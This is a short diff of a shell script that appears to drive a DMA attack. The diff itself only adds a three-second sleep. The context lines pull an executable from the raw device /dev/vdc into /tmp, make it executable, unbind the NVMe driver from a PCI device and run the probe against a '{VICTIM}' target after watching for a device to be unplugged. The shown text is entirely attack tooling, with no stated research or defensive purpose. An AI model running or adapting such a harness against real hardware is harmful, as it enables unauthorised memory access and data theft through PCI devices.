@@ -56,7 +56,7 @@ echo "@by MSI $(dd if=/dev/sda bs=64k count=16 2>/dev/null | md5sum)"
 grep -E "eth0|ahci|0000:03:00.0" /proc/interrupts
 echo "@look"
 while [ -d /sys/bus/pci/devices/0000:04:00.0 ]; do usleep 50000; done
-echo "@unplugged"
+echo "@unplugged"; sleep 3 # the answer comes a moment later
 dd if=/dev/vdc of=/tmp/dma-probe bs=64k 2>/dev/null; chmod 755 /tmp/dma-probe
 echo 0000:01:00.0 >/sys/bus/pci/drivers/nvme/unbind
 /tmp/dma-probe 0000:01:00.0 {VICTIM}
